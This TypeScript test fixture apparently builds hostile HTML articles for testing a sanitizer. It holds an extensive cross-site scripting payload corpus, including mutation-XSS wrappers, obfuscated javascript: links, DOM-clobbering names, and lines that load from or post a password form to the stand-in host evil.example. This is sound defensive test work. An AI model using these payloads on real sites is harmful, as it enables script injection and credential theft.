/** What would run in an article that holds it, and not be seen. */
const CORES: readonly string[] = [
  '<img src=x onerror=canary(1)>',
  '<script>canary(2)</script>',
  '<svg onload=canary(3)></svg>',
  '<a href="javascript:canary(4)">a</a>',
  '<iframe srcdoc="<script>parent.canary(5)</script>"></iframe>',
  '<input autofocus onfocus=canary(6)>',
];

/** Where parsers disagree on what is markup: each wraps what is hidden in it. */
const WRAPPERS: Record<string, (core: string) => string> = {
  plain: (core) => core,
  'text only elements': (core) => `<xmp><p title="</xmp>${core}"></p></xmp>`,
  'no scripts': (core) => `<noscript><p title="</noscript>${core}"></p></noscript>`,
  'no embedding': (core) => `<noembed><p title="</noembed>${core}"></p></noembed>`,
  'no frames': (core) => `<noframes><p title="</noframes>${core}"></p></noframes>`,
  'a title': (core) => `<title><p id="</title>${core}"></p></title>`,
  'a text field': (core) => `<textarea><p id="</textarea>${core}"></p></textarea>`,
  'a style': (core) => `<style><p id="</style>${core}"></p></style>`,
  'a script': (core) => `<script><!--<p id="</script>${core}"></p>--></script>`,
  'plain text': (core) => `<plaintext></plaintext>${core}`,
  'a frame’s words': (core) => `<iframe><p id="</iframe>${core}"></p></iframe>`,
  'a style in a drawing': (core) => `<svg><style><p id="</style>${core}"></p></style></svg>`,
  'a drawing that ends': (core) => `<svg></p><style><a id="</style>${core}"></a></style></svg>`,
  'a title in a drawing': (core) =>
    `<svg><title><style><!--</style>${core}--></style></title></svg>`,
  'a description': (core) =>
    `<svg><desc><noscript><p title="</noscript>${core}"></p></noscript></desc></svg>`,
  'a foreign object': (core) => `<svg><foreignObject>${core}</foreignObject></svg>`,
  'a formula': (core) =>
    `<math><annotation-xml encoding="text/html">${core}</annotation-xml></math>`,
  'glyphs in a table': (core) =>
    `<math><mtext><table><mglyph><style><!--</style>${core}--></style></mglyph></table></mtext></math>`,
  'forms in each other': (core) =>
    `<form><math><mtext></form><form><mglyph><style></math>${core}</style></mglyph></form>`,
  'a malignmark': (core) =>
    `<math><mtext><mglyph><malignmark></mglyph>${core}</malignmark></mtext></math>`,
  'character data': (core) => `<svg><![CDATA[><p id="]]>${core}"></p>]]></svg>`,
  'character data in HTML': (core) => `<![CDATA[ ${core} ]]>`,
  'a comment of nothing': (core) => `<!-->${core}-->`,
  'a comment of a dash': (core) => `<!--->${core}-->`,
  'a comment with a bang': (core) => `<!-- --!>${core}-->`,
  'a comment of a question': (core) => `<?x a=">${core}"?>`,
  'a closing comment': (core) => `</ a=">${core}">`,
  'a declaration': (core) => `<!DOCTYPE x [<!ENTITY y "${core}">]>&y;`,
  'a template': (core) => `<template><div>${core}</div></template>`,
  'a shadow': (core) => `<div><template shadowrootmode=open>${core}</template></div>`,
  'a choice': (core) => `<select><option>${core}</option></select>`,
  'a choice’s style': (core) => `<select><style></select>${core}</style>`,
  'a table': (core) => `<table>${core}<tr><td>x</td></tr></table>`,
  'a caption': (core) => `<table><caption><table></caption>${core}</table></table>`,
  'an attribute': (core) => `<p title='${core}' alt="${core.replaceAll('"', '&quot;')}">x</p>`,
  'an attribute without quotes': (core) => `<p title=\`${core}\`>x</p>`,
  'an image’s words': (core) =>
    `<img src="https://pictures.example/a.png" alt="${core.replaceAll('"', "'")}">`,
  entities: (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  'entities of entities': (core) => core.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  'a list that never ends': (core) => `<ul><li><ol><li><p>${core}`,
  'a deep nest': (core) => `${'<blockquote>'.repeat(60)}${core}${'</blockquote>'.repeat(60)}`,
  'a nest of headings': (core) =>
    `<h2><h3><p><a href="/"><a href="/">${core}</a></a></p></h3></h2>`,
  'another name space': (core) => `<x:p xmlns:x="http://www.w3.org/1999/xhtml">${core}</x:p>`,
  'a made-up element': (core) => `<x-hostile is="a">${core}</x-hostile>`,
};

/** What needs no wrapping. */
const SINGLES: readonly string[] = [
  ...[
    'java&#10;script:',
    'java&Tab;script:',
    '&#x6a;avascript:',
    ' javascript:',
    'javascript&colon;',
    'jAvAsCrIpT:',
  ].map((scheme) => `<a href="${scheme}canary(10)">a</a>`),
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KDExKTwvc2NyaXB0Pg==">a</a>',
  '<a href="vbscript:canary(12)">a</a>',
  '<a href="view-source:x" ping="https://evil.example/">a</a>',
  '<a href="/" target="x" onclick="canary(13)" style="position:fixed;inset:0">a</a>',
  '<a xlink:href="javascript:canary(14)" href="?">a</a>',
  '<svg><a xlink:href="javascript:canary(15)"><text>a</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:canary(16) /><set attributeName=href to=javascript:canary(16) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary(17)>#x"></svg>',
  '<svg><script href="data:text/javascript,canary(18)" /></svg>',
  '<math href="javascript:canary(19)">a</math><math><maction actiontype="statusline" xlink:href="javascript:canary(19)">a</maction></math>',
  '<body onload=canary(20)><body background="javascript:canary(20)">',
  '<details open ontoggle=canary(21)><summary>a</summary></details>',
  '<marquee onstart=canary(22)>a</marquee>',
  '<video><source onerror=canary(23)></video><audio src=x onerror=canary(23)></audio>',
  '<video poster="javascript:canary(24)" src="https://evil.example/x"></video>',
  '<img src=x onerror&#61;canary(25)><img src="x" onerror = "canary(25)"><img/src=x/onerror=canary(25)>',
  '<img srcset="https://evil.example/x.png 1x" sizes="1px">',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='canary(26)'/>\">",
  '<picture><source srcset="https://evil.example/x.png"><img src="/favicon.svg"></picture>',
  '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x);-moz-binding:url(x);behavior:url(x);width:expression(canary(27))">a</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="data:text/html,x">',
  '<link rel="preload" as="script" href="https://evil.example/x.js"><link rel="dns-prefetch" href="//evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><meta http-equiv="Set-Cookie" content="a=b">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="referrer" content="unsafe-url">',
  '<base href="https://evil.example/"><base target="x">',
  '<form action="https://evil.example/"><input name="password" type="password"><button formaction="javascript:canary(28)">a</button></form>',
  '<form id="x"></form><button form="x" formaction="javascript:canary(29)">a</button><isindex action="javascript:canary(29)">',
  '<input type="image" src="https://evil.example/x" formaction="javascript:canary(30)">',
  '<object data="data:text/html,<script>parent.canary(31)</script>"></object><embed src="data:text/html,x"><applet code="x"></applet>',
  '<frameset onload=canary(32)><frame src="javascript:parent.canary(32)"></frameset>',
  '<iframe src="javascript:parent.canary(33)"></iframe><iframe src="https://evil.example/"></iframe><portal src="//evil.example">',
  // Names that take the place of what scripts ask a document for.
  '<img name="getElementById"><img id="main"><form name="body"><input name="parentNode"></form><a id="canary" href="x:y">',
  '<a id="defaultView"></a><a id="defaultView" name="trustedTypes" href="x:y"></a><form id="attributes"><input name="attributes"></form>',
  '<p id="__proto__" class="constructor" name="__proto__" data-x="1" contenteditable onbeforeinput=canary(34)>a</p>',
  '<script id="page-data" type="application/json">{}</script><script type="application/ld+json">{}</script>',
  '<p onclick=canary(35) oncontentvisibilityautostatechange=canary(35) style=content-visibility:auto>a</p>',
  '<p popover id="p" onbeforetoggle=canary(36)>a</p><button popovertarget="p">a</button>',
  '<dialog open onclose=canary(37)><form method="dialog"><button>a</button></form></dialog>',
  '<p hidden="until-found" onbeforematch=canary(38)>a</p>',
  '<input type="hidden" accesskey="x" onclick=canary(39)><p tabindex="1" onfocusin=canary(39) autofocus>a</p>',
  '<p>&#0;&#x1f;&#8238;&#xfdd0;<img src=x one&#0;rror=canary(40)></p>',
  '<scr<script>ipt>canary(41)</scr</script>ipt><<script>canary(41)//<</script>',
  '<img src="x:x" onerror="canary(42)" <img src=x onerror=canary(42)//',
  '<p title="a>b"onmouseover=canary(43) x>a</p><p/onmouseover=canary(43)>a</p>',
  '<a href="https://evil.example" rel="opener" target="_blank" download="x.html">a</a>',
  '<a href="//user:word@evil.example">a</a><a href="https:\\\\evil.example">a</a>',
];

export interface Article {
  what: string;
  html: string;
}

/** Articles that would take over the page that shows them as they are. */
export const ARTICLES: readonly Article[] = [
  ...Object.entries(WRAPPERS).map(([what, wrap]) => ({
    what,
    html: CORES.map((core) => `<p>before</p>${wrap(core)}<p>after</p>`).join('\n'),
  })),
  ...SINGLES.map((html) => ({ what: html.slice(0, 60), html: `<p>before</p>${html}<p>after</p>` })),
];
